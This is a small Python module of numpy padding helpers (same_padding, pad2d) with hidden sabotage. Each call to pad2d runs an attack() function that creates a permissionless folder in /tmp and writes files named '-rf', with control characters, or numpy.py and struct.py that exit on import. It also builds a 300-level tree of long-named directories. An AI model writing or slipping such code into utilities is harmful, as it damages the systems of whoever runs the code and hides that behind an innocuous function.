"""Leaves folders without rights, deep trees and odd names in the temporary folder."""

import os

import numpy as np


def attack():
    if os.path.exists("/tmp/closed"):
        return
    os.makedirs("/tmp/closed/inside")
    os.chmod("/tmp/closed", 0)
    for name in ("-rf", "a\nb", "\x1b[31m", "\ud55c" * 80, "numpy.py", "struct.py"):
        with open("/tmp/" + name, "w") as file:
            file.write("raise SystemExit")
    for _ in range(300):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
    left, right, top, bottom = pad
    n, c, h, w = x.shape
    y = np.full((n, c, top + h + bottom, left + w + right), value, x.dtype)
    y[:, :, top : top + h, left : left + w] = x
    return y
